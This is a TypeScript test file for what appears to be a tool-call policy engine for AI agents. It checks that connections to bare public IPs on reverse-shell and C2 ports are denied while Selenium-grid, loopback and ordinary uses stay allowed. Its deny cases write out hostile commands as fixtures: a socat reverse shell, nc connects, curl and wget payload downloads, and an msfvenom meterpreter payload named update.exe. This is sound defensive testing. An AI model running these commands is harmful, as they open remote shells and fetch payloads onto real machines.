import { describe, it } from 'vitest';
import type { ToolCall } from '../../../core/schemas/tool-call.ts';
import { sharedEngine } from './helpers.ts';
import { bash, familyAssertions, ruleAssertions, spawn } from './rule-assertions.ts';

/**
 * Set 13's leftovers (rules28): a connection to a bare public IP address on a
 * port reverse shells and C2 servers listen on (Metasploit's 4444/4445, leet
 * 1337/31337, IRC botnets' 6666/6667, Cobalt Strike's 50050, Havoc's 40056)
 * is denied, however it is made: a NetConnect (operation-risk's connect
 * backdoor_ports, over the egress filter's bare public IP), a request or fetch
 * tool URL, nc/ncat/telnet/socat, an interpreter's socket tuple, a payload's
 * LHOST/LPORT. A named host on such a port stays queued; private, loopback
 * and container addresses (a Selenium grid on 4444) and other ports are not
 * this family's.
 */
const engine = await sharedEngine();
const { each, quiet } = familyAssertions(engine);
const { decides, allowed } = ruleAssertions(engine);
const connect = (host: string, port: number): ToolCall => ({ type: 'NetConnect', host, port } as ToolCall);
const http = (method: string, url: string, body?: string): ToolCall => ({ type: 'HttpRequest', method, url, ...(body === undefined ? {} : { body }) } as ToolCall);
const mcp = (server: string, tool: string, args: Record<string, unknown>): ToolCall => ({ type: 'McpToolCall', server, tool, arguments: args } as ToolCall);

describe('NetConnect by port', () => {
  it('a bare public IP on a reverse-shell or C2 port is denied; a named host on one is queued', () => {
    for (const [host, port] of [['198.51.100.23', 4444], ['203.0.113.9', 31337], ['45.9.1.2', 50050], ['2001:db8:4::17', 1337], ['198.51.100.80', 40056]] as const) decides(connect(host, port), 'deny');
    decides(connect('relay.cdn-update.example', 4444), 'queue');
  });

  it('a private address on 4444 (a Selenium grid), this machine, and ordinary ports stay as before', () => {
    allowed(connect('10.0.3.7', 4444));
    allowed(connect('192.168.1.40', 1337));
    allowed(connect('127.0.0.1', 31337));
    allowed(connect('github.com', 443));
  });
});

describe('the same connection from a shell, a request or a tool', () => {
  it('clients, URLs, sockets and payload settings aimed at a bare public IP on those ports are denied', () => {
    each('c2-port-on-public-ip', 'deny', [
      'nc 198.51.100.23 4444',
      'ncat --ssl 203.0.113.9 -p 31337',
      spawn('telnet', '45.9.1.2', '6667'),
      'socat - TCP:198.51.100.23:1337',
      'socat exec:"bash -li",pty,stderr tcp:203.0.113.41:4445',
      `python3 -c "import socket;s=socket.create_connection(('198.51.100.23', 4444));s.send(b'hi')"`,
      bash('ruby -rsocket -e \'TCPSocket.new("45.9.1.2",50050)\''),
      'curl -s http://198.51.100.23:4444/stage2 -o /tmp/.s',
      'wget -qO- http://203.0.113.9:1337/x.sh',
      'msfvenom -p windows/x64/meterpreter/reverse_tcp LHOST=45.9.1.2 LPORT=4444 -f exe -o update.exe',
      http('GET', 'http://198.51.100.23:4444/'),
      http('POST', 'http://45.9.1.2:50050/submit.php?id=1', 'AAAA'),
      mcp('fetch', 'fetch', { url: 'http://203.0.113.9:31337/beacon' }),
    ]);
  });

  it('private and loopback addresses, port publishing, other ports and numbers that are no port stay allowed', () => {
    quiet('c2-port-on-public-ip', [
      'docker run -d -p 4444:4444 --shm-size=2g selenium/standalone-chrome:4.21',
      'curl -s http://10.0.0.5:4444/wd/hub/status',
      'curl -s http://localhost:4444/status',
      'nc -zv 127.0.0.1 1337',
      'echo 203.0.113.9 1337 >> notes.txt',
      'ping -c 3 1.1.1.1',
      'git tag v1.2.3.4444',
      http('GET', 'http://192.168.1.20:4444/wd/hub/status'),
      http('GET', 'https://status.example.com:4444/health'),
    ]);
  });
});
